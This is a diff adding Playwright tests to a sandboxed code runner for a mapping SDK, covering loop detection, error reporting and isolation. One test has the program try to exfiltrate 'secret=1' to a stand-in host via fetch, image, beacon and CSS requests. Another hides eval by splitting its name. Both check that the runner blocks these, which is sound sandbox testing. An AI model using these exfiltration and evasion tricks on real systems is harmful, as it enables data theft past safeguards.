@@ -101,10 +101,107 @@ test('a MapWeaveError keeps its code in the message', async ({page}) => {
   expect(error.message).toMatch(/^MapWeaveError \[[A-Z_]+\]/);
 });
 
-test('an endless loop is stopped with its line and the page stays responsive', async ({page}) => {
-  await runInFrame(page, 'let spins = 0;\nwhile (true) {\n  spins++;\n}\n');
+// An await inside a loop runs its iterations as microtasks of one task: the page draws
+// nothing until they stop. A loop after an await throws from a promise nobody handles.
+for (const [kind, source, line] of [
+  ['an endless loop', 'let spins = 0;\nwhile (true) {\n  spins++;\n}\n', 2],
+  ['a loop that awaits inside', 'async function spin() {\n  for (;;) {\n    await null;\n  }\n}\nspin();\n', 2],
+  ['an endless loop after an await', 'async function main() {\n  await null;\n  while (true) {}\n}\nmain();\n', 3],
+] as const) {
+  test(`${kind} is stopped with its line and the page stays responsive`, async ({page}) => {
+    await runInFrame(page, source);
+    const error = await waitForRunnerMessage(page, 'error');
+    expect(error).toMatchObject({phase: 'runtime', line});
+    expect(error.message).toContain('endless loop');
+    expect(await page.evaluate(() => 6 * 7)).toBe(42);
+  });
+}
+
+test('an error thrown by the SDK later (timer, animation frame, async function, event listener) or a promise it rejects keeps its message and the user’s line', async ({page}) => {
+  await runInFrame(
+    page,
+    `import { NetworkLayer, analyzeInWorker } from 'mapweave';
+const broken = { l: { type: 'link' as const, id1: 'a', id2: 'b' } };
+setTimeout(() => new NetworkLayer({ id: 'timer', data: broken }), 10);
+requestAnimationFrame(() => new NetworkLayer({ id: 'frame', data: broken }));
+(async () => { await null; new NetworkLayer({ id: 'async', data: broken }); })();
+document.body.addEventListener('click', () => new NetworkLayer({ id: 'click', data: broken }));
+setTimeout(() => document.body.click(), 20);
+analyzeInWorker({}, 'no-such-algorithm' as never);
+`,
+  );
+  await expect.poll(async () => (await runnerMessages(page)).filter((message) => message.type === 'error').length).toBe(5);
+  const errors = (await runnerMessages(page)).filter((message) => message.type === 'error');
+  expect(errors.map((error) => error.line).sort()).toEqual([3, 4, 5, 6, 8]);
+  for (const error of errors) expect(error.message).toMatch(/^MapWeaveError \[[A-Z_]+\]: /);
+});
+
+test('on a host without the CORS header the runner still runs, and a hidden SDK error says why it is hidden', async ({page}) => {
+  // Playwright's fulfil adds the header a CORS request asks for unless given one: give one that does not match.
+  await page.route(/\/(sdk|runner)\/[^/]+\.js$/, async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({response, headers: {...response.headers(), 'access-control-allow-origin': 'http://elsewhere.invalid'}});
+  });
+  await mountRunnerFrame(page);
+  await runInFrame(page, `${DRAW}setTimeout(() => map.setViewState(null as never), 10);\n`);
+  await waitForRunnerMessage(page, 'first-frame');
   const error = await waitForRunnerMessage(page, 'error');
-  expect(error).toMatchObject({phase: 'runtime', line: 2});
-  expect(error.message).toContain('endless loop');
-  expect(await page.evaluate(() => 6 * 7)).toBe(42);
+  expect(error.message).toMatch(/^Script error\. The browser hides its message and line: it was thrown inside the SDK/);
+});
+
+test('an error in a worker the program starts reaches the console with its message', async ({page}) => {
+  await runInFrame(page, "const code = 'throw new RangeError(\"inside the worker\");';\nnew Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));\n");
+  const error = await waitForRunnerMessage(page, 'error');
+  expect(error).toMatchObject({phase: 'runtime'});
+  expect(error.message).toContain('RangeError: inside the worker');
+});
+
+test('the program cannot send anything out: fetch, images, beacons and styles are blocked and named in the console', async ({page}) => {
+  const sent: string[] = [];
+  await page.route('http://beacon.test/**', (route) => {
+    sent.push(route.request().url());
+    return route.fulfill({status: 204, headers: {'Access-Control-Allow-Origin': '*'}});
+  });
+  await runInFrame(
+    page,
+    `fetch('http://beacon.test/fetch?secret=1').then(() => console.log('fetch sent'), () => console.log('fetch refused'));
+new Image().src = 'http://beacon.test/image?secret=1';
+navigator.sendBeacon('http://beacon.test/beacon', 'secret=1');
+document.body.style.backgroundImage = 'url(http://beacon.test/style?secret=1)';
+`,
+  );
+  await waitForRunnerMessage(page, 'console', (message) => message.text === 'fetch refused');
+  await expect
+    .poll(async () => (await runnerMessages(page)).filter((message) => message.type === 'console' && String(message.text).startsWith('The runner blocked http://beacon.test/')).length)
+    .toBeGreaterThanOrEqual(3);
+  expect(sent).toEqual([]);
+});
+
+test('code given as a string does not run, and the console says why', async ({page}) => {
+  await runInFrame(
+    page,
+    `const run = globalThis['ev' + 'al'] as (code: string) => unknown;
+const later = globalThis['set' + 'Timeout'] as (code: string, ms: number) => number;
+later("console.log('string timer ran')", 0);
+try {
+  run("console.log('eval ran')");
+} catch (error) {
+  console.log('refused: ' + (error as Error).name);
+}
+setTimeout(() => console.log('finished'), 50);
+`,
+  );
+  await waitForRunnerMessage(page, 'console', (message) => message.text === 'finished');
+  const lines = (await runnerMessages(page)).filter((message) => message.type === 'console').map((message) => String(message.text));
+  expect(lines).toContain('refused: EvalError');
+  expect(lines).not.toContain('string timer ran');
+  expect(lines).not.toContain('eval ran');
+  expect(lines.filter((line) => line.startsWith('The runner does not run code given as a string'))).toHaveLength(2);
+});
+
+test('eval written in the program is a compile error naming its line', async ({page}) => {
+  await runInFrame(page, "const a = 1;\nconsole.log(eval('a + 1'));\n");
+  const error = await waitForRunnerMessage(page, 'error');
+  expect(error).toMatchObject({phase: 'compile', line: 2});
+  expect(error.message).toContain('eval() runs code given as a string');
 });
